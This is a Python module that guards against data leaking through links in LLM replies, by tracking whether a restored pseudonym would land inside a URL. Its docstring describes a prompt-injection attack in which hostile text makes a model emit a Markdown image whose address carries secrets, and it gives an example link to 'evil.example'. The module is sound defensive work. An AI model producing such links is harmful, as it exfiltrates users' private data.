r"""Where a reply stands inside a link: a value put in there could leave with a click, or without.

A model that read hostile text may be told to answer with an image whose address carries what
it knows; a browser fetches it at once. So no value goes into an address, unless the purpose
allows the host::

    ![](https://evil.example/?q=PERSON_7Q3K)        stays as it is
    [file](https://intra.example/PERSON_7Q3K)       restored where `intra.example` is allowed
    PERSON_7Q3K, see https://evil.example           restored: outside

Whether a place is inside is asked of what stands before it, once a value would go there. It is,
if an address begins in one of these, all of which may be open there at the same time:

- the run since the last white space (that of HTML: a no-break space ends no address);
- a tag of HTML that is not closed, or the content of a script or a style sheet;
- a target of Markdown in angle brackets;
- a string in quotes behind `=`, `url(` or `@import`;
- in JSON, a string that is an address from its beginning.

An address begins with a scheme, two slashes or `www.`, however that is spelt: with references
of HTML, escapes of Markdown, CSS and JSON, backslashes, tabs and line ends. Reading errs on one
side: what may be an address is one. An address relative to the page stays on the operator's
own server and is none, unless the reply has a `<base>`; nor are `mailto:` and `tel:`, which a
person sends.

Sources: WHATWG URL §4.4 (what browsers read as an address); HTML §13.2.5 (tags); CommonMark 0.31
§6.3 and §6.5 (targets, autolinks); CSS Syntax 3 §4.3.7 (escapes); OWASP LLM02:2025 and LLM05:2025
(exfiltration through rendered output).
"""

import re
import sys
from collections.abc import Iterator
from collections.abc import Set as AbstractSet
from enum import Enum
from html import unescape
from itertools import islice
from typing import Final

import orjson

_KEPT: Final = 16_384
"""Characters kept of what stands before."""
_ASKED: Final = 64
"""Tags and quotes that are asked whether they are open, the last ones first."""
_BEGIN = re.compile(
    r"(?:https?|wss?|ftp):|[a-z][a-z0-9+.-]+:[\\/]|//|(?<![\w:])[\\/]{2}|www\.", re.IGNORECASE
)
_SUSPECT = re.compile(
    r"(?:https?|wss?|ftp):|[a-z]:[\\/]|//|\\|www\.|&(?:\#|colon|b?sol|tab|newline)|<[a-z!]",
    re.IGNORECASE,
)
"""What a text has that has an address: without any, nobody looks further."""
_LONGEST_SUSPECT: Final = 12
_SPACES: Final = "\t\n\f\r "
_LINE_ENDS = re.compile(r"[\t\n\r]")
_MARKDOWN = re.compile(r"\\(?=[!-/:-@\[-`{-~])")
_CSS = re.compile(r"\\([0-9a-fA-F]{1,6})[ \t\n\f\r]?")
_TAG = re.compile(r"<[A-Za-z!/?]")
_OPEN_TAG = re.compile(
    r"""[^"'>]*(?:"[^"]*"[^"'>]*|'[^']*'[^"'>]*)*(?:"[^"]*|'[^']*)?""", re.DOTALL
)
_ELEMENT = re.compile(r"<(script|style)\b(?!.*</\1)", re.IGNORECASE | re.DOTALL)
_TARGET = re.compile(r"\](?:\(|:)[\s>]*<((?:[^>\n\\]|\\.)*)\Z", re.DOTALL)
_QUOTE = re.compile(r"(?:=|url\(|@import)\s*([\"'])", re.IGNORECASE)
_BASE = re.compile(r"<base[\s/>]", re.IGNORECASE)
_HOST_ALONE = re.compile(
    r"\s*(?:[a-z0-9-]{1,63}\.){1,8}[a-z]{2,24}(?::[0-9]{1,5})?/", re.IGNORECASE
)
"""How a string of JSON begins that a tool may take for an address without a scheme."""
_HOST = re.compile(
    r"https?://(?P<host>[a-z0-9](?:[a-z0-9.-]{0,251}[a-z0-9])?)(?::[0-9]{1,5})?[/?#]",
    re.IGNORECASE,
)


class Place(Enum):
    """Where the next value would stand."""

    OUTSIDE = "outside"
    ALLOWED = "allowed"
    """In an address whose host the purpose allows."""
    FORBIDDEN = "forbidden"


class Links:
    """Reads one text of a reply, in pieces, and knows whether it stands in an address."""

    __slots__ = ("_allowed", "_based", "_before", "_json", "_suspect")

    def __init__(self, allowed: AbstractSet[str], *, json: bool) -> None:
        """`allowed` are host names in lower case; a host's subdomains are allowed with it."""
        self._allowed = allowed
        self._json = json
        self._before = ""
        self._based = False
        """Whether a `<base>` makes every address one of another server."""
        self._suspect = False
        """Whether anything read so far may have been the beginning of an address."""

    def read(self, text: str) -> None:
        """Read the next piece of what the client will get."""
        self._before += text
        if not (self._suspect and self._based):
            seen = self._before[-len(text) - _LONGEST_SUSPECT :]
            self._suspect = self._suspect or _SUSPECT.search(seen) is not None
            self._based = self._based or _BASE.search(seen) is not None
        if len(self._before) > 2 * _KEPT:
            self._before = self._before[-_KEPT:]

    @property
    def place(self) -> Place:
        """Where the next value would stand."""
        if not self._suspect and not self._json:
            return Place.OUTSIDE
        before = self._before[-_KEPT:]
        text = _in_string(before) if self._json else before
        if self._json and _HOST_ALONE.match(text):
            text = f"https://{text.lstrip()}"
        run = text[max(map(text.rfind, _SPACES)) + 1 :]
        opened = [run, *_open(text)]
        if self._json and _begins(text):
            opened.append(text)
        begun = [begins for part in opened if (begins := _beginnings(part))]
        if begun:
            alone = all(begins == 1 for begins in begun)
            return Place.ALLOWED if alone and self._allows(run) else Place.FORBIDDEN
        inside = len(opened) > 1 or "](" in run or "]:" in text
        cut = len(run) == _KEPT  # whatever began before that is out of sight
        return Place.FORBIDDEN if cut or (self._based and inside) else Place.OUTSIDE

    def _allows(self, run: str) -> bool:
        """Tell whether the only address in `run` is on a host that is allowed, plainly spelt."""
        host = _HOST.search(run)
        if host is None or "\\" in run:
            return False
        name = host["host"].lower()
        return any(name == one or name.endswith(f".{one}") for one in self._allowed)


def _in_string(before: str) -> str:
    """Return what the string of JSON says that is open at the end of `before`."""
    at = before.rfind('"')
    while at > 0 and (at - len(before[:at].rstrip("\\"))) % 2:
        at = before.rfind('"', 0, at)
    written = before[at + 1 :]
    try:
        said: str = orjson.loads(f'"{written}"')
    except orjson.JSONDecodeError:
        return written.replace("\\", "")
    return said


def _open(text: str) -> Iterator[str]:
    """Yield what stands in each tag, element, target and quoted string that `text` leaves open."""
    for tag in _last_ones(_TAG, text):
        if _OPEN_TAG.fullmatch(text, tag.start() + 1):
            yield text[tag.start() :]
    element = _ELEMENT.search(text)
    if element is not None:
        yield text[element.start() :]
    target = _TARGET.search(text)
    if target is not None:
        yield target[1]
    for quote in _last_ones(_QUOTE, text):
        following = text[quote.end() :]
        if re.search(rf"(?<!\\){quote[1]}", following) is None:
            yield following


def _last_ones(pattern: re.Pattern[str], text: str) -> Iterator[re.Match[str]]:
    return islice(reversed(list(pattern.finditer(text))), _ASKED)


def _begins(text: str) -> bool:
    """Tell whether `text` is an address from its beginning."""
    return any(_BEGIN.match(spelt.lstrip()) for spelt in _spellings(text))


def _beginnings(text: str) -> int:
    """Return how many addresses begin in `text`, in the spelling in which most do.

    `https://` is one: its slashes belong to its scheme.
    """
    return max(len(_WHOLE_BEGIN.findall(spelt)) for spelt in _spellings(text))


_WHOLE_BEGIN = re.compile(rf"(?:{_BEGIN.pattern})[\\/]*(?:www\.)?", re.IGNORECASE)


def _spellings(text: str) -> Iterator[str]:
    """Yield `text` as HTML, Markdown and CSS read it; line ends inside an address are dropped."""
    yield _LINE_ENDS.sub("", text)
    if "&" in text:
        yield _LINE_ENDS.sub("", unescape(text))
    if "\\" in text:
        yield _LINE_ENDS.sub("", unescape(_MARKDOWN.sub("", text)))
        yield _LINE_ENDS.sub("", _CSS.sub(_character, text))


def _character(escape: re.Match[str]) -> str:
    code = int(escape[1], 16)
    return chr(code) if code <= sys.maxunicode else "\ufffd"
